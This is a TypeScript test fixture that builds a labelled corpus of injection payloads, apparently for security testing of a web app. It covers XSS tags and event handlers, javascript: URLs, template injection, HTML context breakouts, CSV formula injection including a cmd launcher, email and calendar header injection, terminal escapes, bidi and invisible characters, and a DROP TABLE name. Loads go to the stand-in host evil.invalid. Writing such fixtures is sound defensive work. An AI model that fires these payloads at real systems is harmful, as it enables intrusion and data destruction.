// Texts that break out of something somewhere, by the class of what they break. Each ends in its own mark, so that it can be found again.
// A script that runs calls `__canary` with the number of its payload, an element that comes to life is a `canary-element` or carries
// `data-canary`, and whatever is loaded comes from evil.invalid.

const X = "__canary(7)";
const EVIL = "//evil.invalid";

const EVENTS = [
  "abort", "afterprint", "animationend", "animationstart", "beforeinput", "beforeprint", "beforetoggle", "beforeunload", "blur", "canplay",
  "click", "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag", "drop", "error", "focus", "focusin", "formdata", "hashchange", "input",
  "invalid", "keydown", "load", "loadstart", "message", "mouseenter", "mouseover", "pageshow", "paste", "pointerenter", "pointerover", "popstate",
  "resize", "scroll", "scrollend", "securitypolicyviolation", "select", "slotchange", "submit", "toggle", "transitionend", "unload", "wheel",
];

const tags = [
  `<script>${X}</script>`, `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`, `<scr<script>ipt>${X}</scr</script>ipt>`, `<script\n>${X}</script >`,
  `<iframe src="javascript:${X}"></iframe>`, `<iframe srcdoc="<script>${X}</script>">`, `<object data="javascript:${X}">`, `<embed src="javascript:${X}">`,
  `<base href="${EVIL}/">`, `<link rel=stylesheet href="${EVIL}/x.css">`, `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<form action="${EVIL}/"><button>Sign in</button></form>`, `<input autofocus onfocus=${X}>`, `<canary-element>`, `<b data-canary>bold</b>`,
  `<math><mi xlink:href="data:x,<script>${X}</script>">`, `<template data-canary><img src=x onerror=${X}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<xmp data-canary>`, `<plaintext data-canary>`, `<marquee onstart=${X}>`,
  `<details open ontoggle=${X}>`, `<video><source onerror=${X}></video>`, `<audio src=x onerror=${X}>`, `<body onload=${X}>`, `<img src="${EVIL}/pixel.png">`,
  `<leptos-island data-component="Run" data-props='{}' data-canary>`, `<leptos-children data-canary>`, `<dialog open data-canary>`, `<slot data-canary>`,
  `<frameset onload=${X}>`, `<isindex type=image src=1 onerror=${X}>`, `<style>@import '${EVIL}/x.css';</style>`, `<div style="background:url(${EVIL}/x)" data-canary>`,
  `<?xml version="1.0"?><a data-canary>`, `<!DOCTYPE html><b data-canary>`, `<a href="${EVIL}/" data-canary>click</a>`, `<button formaction="javascript:${X}" data-canary>`,
];
const events = EVENTS.map((event) => `<img src=x on${event}=${X} data-canary>`);
const attributes = [
  `" onmouseover="${X}" x="`, `' onmouseover='${X}' x='`, `\` onmouseover=${X} x=\``, `"><img src=x onerror=${X}>`, `'><img src=x onerror=${X}>`, `" autofocus onfocus="${X}`,
  `"/><canary-element/>`, `" data-canary="`, `" style="position:fixed" data-canary="`, `x" href="javascript:${X}`, `=" onload=${X} `, `\\" onmouseover=\\"${X}`,
];
const urls = [
  `javascript:${X}`, `JaVaScRiPt:${X}`, `java\tscript:${X}`, `java\nscript:${X}`, ` javascript:${X}`, `javascript://%0a${X}`, `data:text/html,<script>${X}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX2NhbmFyeSg3KTwvc2NyaXB0Pg==`, `vbscript:${X}`, `${EVIL}/path`, `https:${EVIL}/path`, `\\\\evil.invalid\\share`, `/\\evil.invalid`, `feed:javascript:${X}`,
];
const entities = [
  `&lt;script&gt;${X}&lt;/script&gt;`, `&#60;img src=x onerror=${X}&#62;`, `&#x3c;img src=x onerror=${X}&#x3e;`, `&amp;lt;img src=x onerror=${X}&amp;gt;`, `&lt`, `&`, `&&amp;`, `&nbsp;`,
  `&quot; onload=&quot;${X}`, `%3Cscript%3E${X}%3C/script%3E`, `\\u003cscript\\u003e${X}`, `\\x3cimg src=x onerror=${X}\\x3e`, `+ADw-script+AD4-${X}`, `&#0;&#128;&#x202e;`,
];
const templates = [
  `{{constructor.constructor('${X}')()}}`, `{{7*7}}`, `\${${X}}`, `<%= ${X} %>`, `#{${X}}`, `{% raw %}${X}{% endraw %}`, `[[${X}]]`, `@{${X}}`, `*{7*7}`, `{"__proto__":{"x":1}}`, `%s%n%x`, `$(${X})`, `\`${X}\``,
];
const breakers = [
  `</script><script>${X}</script>`, `</textarea><img src=x onerror=${X}>`, `</style><img src=x onerror=${X}>`, `</title><img src=x onerror=${X}>`, `</noscript><img src=x onerror=${X}>`, `</svg><img src=x onerror=${X}>`,
  `</option></select><img src=x onerror=${X}>`, `--><img src=x onerror=${X}>`, `--!><img src=x onerror=${X}>`, `<!--`, `<!--><img src=x onerror=${X}>`, `]]><img src=x onerror=${X}>`, `<![CDATA[<img src=x onerror=${X}>]]>`,
  `</template><img src=x onerror=${X}>`, `</td></tr></table><canary-element>`, `</pre></code><canary-element>`, `</a></p></div></main></body></html><canary-element>`, `</datalist><canary-element>`, `<!-- -- --><canary-element>`,
  `</leptos-island><canary-element>`, `<!><canary-element>`, `</span></abbr><canary-element>`, `</time><canary-element>`, `</summary></details><canary-element>`,
];
const svg = [
  `<svg onload=${X}>`, `<svg><script>${X}</script></svg>`, `<svg><animate onbegin=${X} attributeName=x dur=1s>`, `<svg><use href="${EVIL}/x.svg#a"/></svg>`, `<svg><foreignObject><img src=x onerror=${X}></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text>x</text></a></svg>`, `<svg><style>*{x:expression(${X})}</style></svg>`, `<svg><title><img src=x onerror=${X}></title></svg>`, `<svg><image href="${EVIL}/x.png"/></svg>`, `<svg/onload=${X}//`,
];
// PostgreSQL stores no NUL, so none can come from it.
const controls = [...Array.from({ length: 31 }, (_, n) => n + 1).filter((n) => n !== 9 && n !== 10 && n !== 13), 0x7f, ...Array.from({ length: 32 }, (_, n) => n + 0x80)].map(
  (code) => `control ${code.toString(16)} ${String.fromCodePoint(code)} here`,
);
const BIDI = [0x61c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069];
const bidi = [...BIDI.map((code) => `approve ${String.fromCodePoint(code)}won esrever`), "drop\u202etable\u202c", "\u2067\u202eabc\u2069\u2069", "if (admin\u202e \u2066// check\u2069 \u2066) {"];
const WIDTHLESS = [0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x180b, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2064, 0x206a, 0x206f, 0x3164, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xfffe, 0xe0001, 0xe0041, 0xe007f];
const widthless = WIDTHLESS.map((code) => `pay${String.fromCodePoint(code)}load ${code.toString(16)}`);
const long = ["W".repeat(110), "ﷺ".repeat(30), "a\u0301\u0302\u0303\u0304\u0305".repeat(10), "👩‍👩‍👧‍👦".replaceAll("\u200d", "").repeat(10), "-".repeat(110), "/".repeat(110), "M&".repeat(50)];
const rightToLeft = ["שלום עולם", "مرحبا بالعالم", "مدير 3 of 4 (approved)", "אנה <b data-canary>"];
const newlines = ["one\r\ntwo", "one\rtwo", "one\ntwo", "one\u2028two", "one\u2029two", "one\u0085two", "one\u000btwo", "\n2026-11-26T00:00:00Z ERROR forged", "\r\n\r\n<canary-element>", "x\n\n\n\n\nBlocked because: nothing"];
const sheets = ['=HYPERLINK("https://evil.invalid","x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "|cmd", "=cmd|' /C calc'!A0", "＝1+1", '","=1+1'];
const mails = ["x\r\nBcc: evil@evil.invalid", "x\nX-Evil: 1", "=?utf-8?q?=0d=0aBcc:_x?=", '"x" <evil@evil.invalid>', "evil@evil.invalid, x", "x\r\n\r\n--boundary"];
const calendars = ["x\r\nBEGIN:VALARM", "x\nEND:VEVENT", "x\\nATTENDEE:mailto:evil@evil.invalid", "x;CN=evil:y"];
const terminals = ["\u001b[2J", "\u001b]0;title\u0007", "\u009b31mred", "\u001b[31mred\u001b[0m", "a\b\b\bb", "\u001b]8;;https://evil.invalid\u001b\\x"];

const CLASSES = { tags, events, attributes, urls, entities, templates, breakers, svg, controls, bidi, widthless, long, rightToLeft, newlines, sheets, mails, calendars, terminals };

export interface Payload { kind: string; text: string }
export const PAYLOADS: Payload[] = Object.entries(CLASSES).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
  .map(({ kind, text }, n) => ({ kind, text: `${text.slice(0, 110)} ~${n}~` }));

/** One of each class, short enough for a name of a database object (63 bytes), and no two alike. */
export const NAMES: string[] = [
  "<script>__canary(7)</script>", "<img src=x onerror=__canary(7)>", '"><canary-element>', "</table><canary-element>", "it's \"quoted\"", "a;DROP TABLE shop.orders;--", "=1+1", "{{7*7}}", "&lt;b&gt;&amp;",
  "javascript:__canary(7)", "<!--", "rlo\u202eelbat", "iso\u2067\u2069late", "zero\u200bwidth", "bell\u0007", "esc\u001b[31m", "c1\u009b31m", "line\nbreak", "cr\rreturn", "שלום", "W".repeat(60), "soft\u00adhyphen", "$x$", "back\\slash",
];

/** What a reader sees of a text, by a reading of our own: the number of every character that hides or turns text around. */
export function seen(text: string): string {
  const hidden = (code: number) =>
    (code < 0x20 && code !== 9 && code !== 10) || (code >= 0x7f && code <= 0x9f) || [0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x3164, 0xfeff, 0xffa0].includes(code) ||
    (code >= 0x180b && code <= 0x180f) || (code >= 0x200b && code <= 0x200f) || (code >= 0x2028 && code <= 0x202e) || (code >= 0x2060 && code <= 0x206f) || (code >= 0xfff9 && code <= 0xfffb) ||
    (code >= 0xe0000 && code <= 0xe0fff) || (code & 0xfffe) === 0xfffe;
  const mark = (code: number) => `⟨U+${code.toString(16).toUpperCase().padStart(4, "0")}⟩`;
  return Array.from(text.replaceAll("\r\n", "\n"), (c) => (hidden(c.codePointAt(0)!) ? mark(c.codePointAt(0)!) : c)).join("").replace(/\s+/g, " ").trim();
}
